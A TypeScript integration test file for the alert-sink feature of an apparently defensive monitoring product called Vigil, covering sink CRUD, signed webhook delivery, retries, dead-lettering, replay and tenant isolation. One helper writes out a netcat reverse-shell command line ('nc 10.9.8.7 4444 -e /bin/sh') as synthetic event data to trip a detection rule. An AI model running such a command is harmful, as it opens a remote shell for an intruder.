// Alert sinks end to end: a real embedded server, a real agent stream raising the built-in netcat alert, and a
// local HTTP receiver on 127.0.0.1. Sinks are created, listed, read, changed and deleted (the secret never comes
// back; each type's URL, format and settings checked with precise 400s); every new alert of the tenant goes through
// the outbox to each of its sinks, signed with the sink's secret; a failing receiver is retried with backoff, then
// dead-lettered and replayed from the API; delivery status per alert and sink; the test button; another tenant's
// alerts never reach the sink; counters are on /metrics.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { signature } from '../../src/alerts/transports.ts';
import type { VigilEvent } from '../../src/schema/event.ts';
import { call, FOREIGN_TENANT, startFixture, type Fixture } from './support.ts';

const SECRET = 'a webhook secret of some length';

interface Received { headers: Record<string, string | string[] | undefined>; body: string }

let f: Fixture;
let receiver: Server;
let url: string;
const received: Received[] = [];
/** Statuses the receiver answers in turn (then 204). */
const script: number[] = [];

before(async () => {
  receiver = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push({ headers: req.headers, body: Buffer.concat(chunks).toString() });
      res.writeHead(script.shift() ?? 204).end();
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
  url = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`;
  // The receiver is on loopback, which the SSRF guard refuses unless the server allows private targets.
  f = await startFixture({ allowPrivateAlertSinks: true, alertDelivery: { baseDelayMs: 20, maxDelayMs: 100, maxAttempts: 4, timeoutMs: 2000, pollMs: 20, repeatWindowMs: 0 } });
});

after(async () => {
  await f.stop();
  await new Promise((r) => receiver.close(r));
});

async function until<T>(what: string, probe: () => T | undefined | false | Promise<T | undefined | false>): Promise<T> {
  for (const end = Date.now() + 15_000; Date.now() < end; await new Promise((r) => setTimeout(r, 25))) {
    const v = await probe();
    if (v) return v;
  }
  throw new Error(`timed out waiting for ${what}`);
}

/** A process start the built-in netcat reverse-shell rule alerts on, from agent `i` of the fixture. */
function reverseShell(i: number): VigilEvent {
  const e = f.agents[i].syntheticEvents(1)[0];
  const args = ['/usr/bin/nc', '10.9.8.7', '4444', '-e', '/bin/sh'];
  e.process = { ...e.process!, executable: args[0], name: 'nc', args, command_line: args.join(' ') };
  return e;
}

const metric = async (outcome: string) =>
  Number(new RegExp(`vigil_alert_sink_deliveries_total\\{outcome="${outcome}"\\} (\\d+)`).exec(await (await fetch(`${f.server.httpUrl}/metrics`, { headers: { authorization: `Bearer ${f.server.metricsToken}` } })).text())?.[1] ?? 0);

test('create, list and delete a sink; the secret is never returned; bad input is a precise 400', async () => {
  const created = await call(f, 'POST', '/alert-sinks', { token: f.tokens.admin, body: { name: 'soc', url, secret: SECRET } });
  assert.equal(created.status, 201);
  assert.deepEqual([created.body.name, created.body.url, created.body.has_secret], ['soc', url, true]);
  assert.ok(!JSON.stringify(created.body).includes(SECRET));
  const listed = await call(f, 'GET', '/alert-sinks', { token: f.tokens.admin });
  assert.deepEqual(listed.body.alert_sinks.map((s: any) => s.id), [created.body.id]);
  assert.ok(!JSON.stringify(listed.body).includes(SECRET));
  assert.equal((await call(f, 'GET', '/alert-sinks', { token: f.tokens.foreign })).body.alert_sinks.length, 0, 'another tenant sees none');

  for (const [body, code] of [[{ name: 'x', url: 'ftp://127.0.0.1/' }, 'invalid_url'], [{ name: 'x', url: 'not a url' }, 'invalid_url'],
    [{ name: 'x', url: 'http://user:pw@127.0.0.1/' }, 'invalid_url'], [{ name: 'x', url, secret: 'short' }, 'invalid_request']] as const) {
    const r = await call(f, 'POST', '/alert-sinks', { token: f.tokens.admin, body });
    assert.deepEqual([r.status, r.body.code], [400, code], JSON.stringify(body));
  }
  const gone = await call(f, 'POST', '/alert-sinks', { token: f.tokens.admin, body: { name: 'temporary', url } });
  assert.equal(gone.body.has_secret, false);
  assert.equal((await call(f, 'DELETE', `/alert-sinks/${gone.body.id}`, { token: f.tokens.foreign })).status, 404);
  assert.equal((await call(f, 'DELETE', `/alert-sinks/${gone.body.id}`, { token: f.tokens.admin })).status, 204);
  assert.equal((await call(f, 'GET', '/alert-sinks', { token: f.tokens.admin })).body.alert_sinks.length, 1);
});

test('a new alert is POSTed to the sink, signed; a failing receiver is retried until it accepts', async () => {
  script.push(503, 500); // two failures, then accepted
  const before = received.length;
  const ev = reverseShell(0);
  await f.agents[0].send([ev]);
  const deliveries = await until('three attempts', () => received.length >= before + 3 && received.slice(before));
  const bodies = deliveries.map((d) => d.body);
  assert.equal(new Set(bodies).size, 1, 'every attempt carries the same delivery');
  const payload = JSON.parse(bodies[0]);
  assert.equal(payload.type, 'alert');
  assert.equal(payload.alert.tenant_id, 'default');
  assert.deepEqual(payload.alert.event_ids, [ev.event.id]);
  assert.equal(payload.alert.rule.author, 'Vigil');
  for (const d of deliveries) {
    assert.equal(d.headers['x-vigil-signature'], signature(SECRET, d.body));
    assert.equal(d.headers['x-vigil-delivery'], payload.delivery_id);
  }
  await until('the delivered counter', async () => (await metric('delivered')) >= 1);
  assert.match(await (await fetch(`${f.server.httpUrl}/metrics`, { headers: { authorization: `Bearer ${f.server.metricsToken}` } })).text(), /vigil_alert_sink_retries_total [2-9]/);
});

test('a receiver that keeps failing is given up after the last attempt; a 4xx is not retried', async () => {
  const failedBefore = await metric('failed');
  script.push(500, 500, 500, 500, 400);
  const start = received.length;
  await f.agents[0].send([reverseShell(0)]);
  await until('four attempts, then given up', async () => (await metric('failed')) === failedBefore + 1);
  assert.equal(received.length - start, 4);
  await f.agents[0].send([reverseShell(0)]);
  await until('refused at once', async () => (await metric('failed')) === failedBefore + 2);
  assert.equal(received.length - start, 5);
});

test('another tenant\'s alerts never reach this tenant\'s sink', async () => {
  const start = received.length;
  const foreign = reverseShell(1);
  await f.agents[1].send([foreign]);
  const own = reverseShell(0);
  await f.agents[0].send([own]);
  await until('the own alert delivered', () => received.slice(start).some((d) => d.body.includes(own.event.id)));
  assert.ok(!received.some((d) => d.body.includes(foreign.event.id)));
  const foreignAlerts = await call(f, 'GET', '/alerts', { token: f.tokens.foreign });
  assert.ok(foreignAlerts.body.alerts.some((a: any) => a.event_ids.includes(foreign.event.id)), 'the foreign alert was raised');
  assert.equal(FOREIGN_TENANT, foreignAlerts.body.alerts[0].tenant_id);
});

test('sink types: each type\'s URL, format and settings are checked (precise 400s); PATCH, GET one, test; secrets never returned', async () => {
  const bad: [object, string][] = [
    [{ name: 'x', type: 'syslog', url: 'tcp://203.0.113.10' }, 'invalid_url'], // no port
    [{ name: 'x', type: 'syslog', url: 'https://203.0.113.10:514' }, 'invalid_url'],
    [{ name: 'x', type: 'webhook', url, format: 'cef' }, 'invalid_format'],
    [{ name: 'x', type: 'email', url: 'smtp://203.0.113.10:587' }, 'invalid_options'],
    [{ name: 'x', type: 'email', url: 'smtp://203.0.113.10:587', options: { from: 'a@example.com', to: ['b@example.com'], username: 'u' } }, 'invalid_options'],
    [{ name: 'x', type: 'pagerduty' }, 'invalid_options'],
    [{ name: 'x', type: 'slack', url, template: '{{rule.title}} {{no.such}}' }, 'invalid_template'],
    [{ name: 'x', type: 'carrier-pigeon', url }, 'invalid_request'],
    [{ name: 'x', type: 'webhook', url, filters: { min_severity: 'urgent' } }, 'invalid_request'],
  ];
  for (const [body, code] of bad) {
    const r = await call(f, 'POST', '/alert-sinks', { token: f.tokens.admin, body });
    assert.deepEqual([r.status, r.body.code], [400, code], JSON.stringify(body));
  }
  const pd = await call(f, 'POST', '/alert-sinks', { token: f.tokens.admin, body: { name: 'pager', type: 'pagerduty', secret: 'routing-key-0123456789', enabled: false } });
  assert.equal(pd.status, 201);
  assert.deepEqual([pd.body.url, pd.body.format, pd.body.has_secret, pd.body.enabled, pd.body.health.breaker], ['https://events.pagerduty.com/v2/enqueue', 'text', true, false, 'closed']);
  assert.ok(!JSON.stringify(pd.body).includes('routing-key-0123456789'));
  const patched = await call(f, 'PATCH', `/alert-sinks/${pd.body.id}`, { token: f.tokens.admin, body: { name: 'pager (night)', filters: { min_severity: 'critical' }, template: '{{rule.title}} on {{host}}' } });
  assert.equal(patched.status, 200);
  assert.deepEqual([patched.body.name, patched.body.filters, patched.body.has_secret], ['pager (night)', { min_severity: 'critical' }, true]);
  assert.equal((await call(f, 'PATCH', `/alert-sinks/${pd.body.id}`, { token: f.tokens.admin, body: { secret: null } })).body.code, 'invalid_options', 'pagerduty keeps its routing key');
  assert.equal((await call(f, 'PATCH', `/alert-sinks/${pd.body.id}`, { token: f.tokens.foreign, body: { name: 'mine' } })).status, 404);
  assert.equal((await call(f, 'GET', `/alert-sinks/${pd.body.id}`, { token: f.tokens.foreign })).status, 404);
  assert.equal((await call(f, 'GET', `/alert-sinks/${pd.body.id}`, { token: f.tokens.admin })).body.name, 'pager (night)');
  assert.equal((await call(f, 'DELETE', `/alert-sinks/${pd.body.id}`, { token: f.tokens.admin })).status, 204);
  // The test button sends a sample alert now, outside the outbox.
  const before = received.length;
  const sinks = (await call(f, 'GET', '/alert-sinks', { token: f.tokens.admin })).body.alert_sinks;
  const tested = await call(f, 'POST', `/alert-sinks/${sinks[0].id}/test`, { token: f.tokens.admin });
  assert.deepEqual([tested.status, tested.body.ok], [200, true]);
  assert.equal(received.length, before + 1);
  assert.equal(JSON.parse(received.at(-1)!.body).alert.rule.id, 'vigil-test');
});

test('delivery status per alert and sink; dead letters replayed from the API', async () => {
  const sinkId = (await call(f, 'GET', '/alert-sinks', { token: f.tokens.admin })).body.alert_sinks[0].id;
  script.push(500, 500, 500, 500); // every attempt fails: dead letter
  const ev = reverseShell(0);
  await f.agents[0].send([ev]);
  const alert = await until('the alert', async () => (await call(f, 'GET', '/alerts', { token: f.tokens.admin })).body.alerts.find((a: any) => a.event_ids.includes(ev.event.id)));
  const dead = await until('dead', async () => {
    const d = await call(f, 'GET', `/alerts/${alert.id}/deliveries`, { token: f.tokens.admin });
    return d.body.deliveries[0]?.state === 'dead' && d.body.deliveries[0];
  });
  assert.deepEqual([dead.sink_id, dead.sink_name, dead.attempts, dead.last_error], [sinkId, 'soc', 4, 'HTTP 500']);
  assert.equal((await call(f, 'GET', `/alerts/${alert.id}/deliveries`, { token: f.tokens.foreign })).status, 404);
  const listed = await call(f, 'GET', `/alert-sinks/${sinkId}/deliveries?state=dead`, { token: f.tokens.admin });
  assert.ok(listed.body.deliveries.some((d: any) => d.alert_id === alert.id));
  assert.ok((await call(f, 'GET', `/alert-sinks/${sinkId}`, { token: f.tokens.admin })).body.health.dead >= 1);
  const replayed = await call(f, 'POST', `/alert-sinks/${sinkId}/replay`, { token: f.tokens.admin, body: { ids: [dead.id] } });
  assert.deepEqual([replayed.status, replayed.body.replayed], [200, 1]);
  await until('delivered after the replay', async () => (await call(f, 'GET', `/alerts/${alert.id}/deliveries`, { token: f.tokens.admin })).body.deliveries[0].state === 'delivered');
  assert.ok(received.some((d) => d.body.includes(ev.event.id) && d.headers['x-vigil-delivery'] === dead.id));
});
